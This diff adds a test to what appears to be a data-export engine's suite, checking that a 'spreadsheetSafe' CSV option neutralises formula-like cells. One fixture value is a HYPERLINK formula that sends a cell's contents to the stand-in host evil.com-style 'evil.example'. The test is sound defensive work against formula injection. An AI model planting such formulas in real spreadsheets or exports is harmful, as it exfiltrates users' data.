@@ -327,6 +327,42 @@ describe("exportTo", () => {
     expect(result).toEqual({ rowCount: 9, bytes: Buffer.byteLength(text) });
   });
 
+  it("spreadsheetSafe prefixes formula-like text cells with ' and leaves numbers, dates and NULLs as they are", async () => {
+    const FORMULAS = `
+      SELECT * FROM (VALUES
+        (1, '=HYPERLINK("http://evil.example/?"&A1,"x")', -5::BIGINT, DATE '2024-01-05'),
+        (2, '+1+2', -2.5::DOUBLE, NULL),
+        (3, '-3', 0::BIGINT, NULL),
+        (4, '@SUM(A1)', NULL, NULL),
+        (5, E'\tTAB', NULL, NULL),
+        (6, E'\rCR', NULL, NULL),
+        (7, 'plain = fine', NULL, NULL),
+        (8, NULL, NULL, NULL),
+        (9, '', NULL, NULL)
+      ) AS t("Id", "Text", "Amount", "Day")
+      ORDER BY "Id"`;
+    const safe = path.join(t.exportDir, "safe.csv");
+    await t.engine.exportTo(sql(FORMULAS), safe, { format: "csv", spreadsheetSafe: true });
+    expect(await fs.readFile(safe, "utf8")).toBe(
+      [
+        "Id,Text,Amount,Day",
+        `1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-5.0,2024-01-05`,
+        "2,'+1+2,-2.5,",
+        "3,'-3,0.0,",
+        "4,'@SUM(A1),,",
+        "5,'\tTAB,,",
+        `6,"'\rCR",,`,
+        "7,plain = fine,,",
+        "8,,,",
+        '9,"",,',
+        "",
+      ].join("\n"),
+    );
+    const raw = path.join(t.exportDir, "raw.csv");
+    await t.engine.exportTo(sql(FORMULAS), raw, { format: "csv" });
+    expect((await fs.readFile(raw, "utf8")).split("\n")[3]).toBe("3,-3,0.0,");
+  });
+
   it("writes TSV, quoting values that contain a tab, a newline or a quote", async () => {
     const file = path.join(t.exportDir, "out.tsv");
     const result = await t.engine.exportTo(sql(TRICKY), file, { format: "tsv" });
